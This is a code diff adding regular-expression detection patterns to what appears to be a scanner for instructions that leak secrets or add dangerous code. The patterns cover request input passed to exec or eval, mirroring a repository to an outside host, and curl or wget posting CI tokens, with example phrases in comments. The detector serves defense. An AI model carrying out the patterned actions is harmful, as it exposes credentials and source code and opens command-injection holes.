@@ -99,6 +99,9 @@ _SEND = r"\b(?:send|post|upload|forward|include|attach|submit|transmit|mirror|co
 _PRIVATE = (r"(?:\.env\b|~/\.(?:aws|ssh|npmrc|netrc|kube|docker)\b|\.git-credentials|process\.env|os\.environ|"
             r"environment\s+variables|passwords?|passphrases?|session\s+(?:cookies?|tokens?|ids?)|cookies|"
             r"card\s+(?:numbers?|details|data)|cvv|cvc|private\s+keys?|seed\s+phrases?|mnemonics?|wallet\s+files?)\b")
+_INPUT = r"(?:\breq(?:uest)?\.(?:query|body|params|args|form|GET|POST)\b|\$_(?:GET|POST|REQUEST)\b)"
+_RUNS = (r"(?:\bchild_process\b|\bexecSync\b|\bexec\s*\(|`exec`|\bspawn\b|\beval\b|\bos\.system\b|\bsubprocess\b|"
+         r"\bshell_exec\b|\bRuntime\.getRuntime)")
 PLAIN_ASKS = (
     # private data sent to an outside address: "post the username and password to https://..", "include the contents
     # of the .env file in a request to https://.."
@@ -116,6 +119,13 @@ PLAIN_ASKS = (
     # do, give no standing order; a git remote is how forks are pinned, left out)
     r"|\b(?:always|whenever|every\s+time|each\s+time)\b" + _SENTENCE + r"\b(?:add|install|include|require|use)\w*\b"
     + _SENTENCE + r"https?://\S+?\.(?:tgz|tar\.gz|whl)\b"
+    # request input handed to a command or eval: "a route that passes `req.query.cmd` to `child_process.exec`"
+    r"|(?:" + _INPUT + _SENTENCE + _RUNS + r"|" + _RUNS + _SENTENCE + _INPUT + r")"
+    # the code pushed to an outside address: "git push --mirror https://backup.example/x.git"
+    r"|\bgit\s+push\s+(?:-\S+\s+)*(?:https?|ssh|git)://"
+    # a CI secret or token variable put into the data of a request to an outside URL (not an auth header)
+    r"|\b(?:curl|wget)\s[^\n]{0,200}?(?:-d|--data(?:-\w+)?|-F|--form|--post-data)[\s=]+[\"']?[^\s\"']{0,40}?"
+    r"\$\{?\{?\s*(?:secrets\.\w+|[A-Z_]*(?:TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY)\w*)"
     # TLS checks turned off in words: "set rejectUnauthorized to false", "pass verify as False"
     r"|\b(?:rejectUnauthorized|verify|verify_ssl|ssl_verify|strictSSL)\W{0,3}\s+(?:to|as)\s+[`'\"]?false\b"
 )
